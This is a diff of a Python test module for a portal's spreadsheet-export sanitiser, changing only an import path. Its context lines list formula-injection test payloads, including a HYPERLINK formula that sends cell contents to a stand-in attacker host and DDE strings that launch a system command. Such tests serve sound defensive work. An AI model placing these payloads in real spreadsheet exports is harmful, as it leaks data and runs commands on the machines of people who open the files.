@@ -12,7 +12,7 @@ from portal.extensions import db
 from portal.insights.rollup import roll_up
 from portal.insights.tables import FORMULA_STARTS, spreadsheet_safe
 from portal.models import ArticleFeedback
-from tests.test_insights_rollup import at, search, view
+from tests.portal.test_insights_rollup import at, search, view
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看订单")', "+1+cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
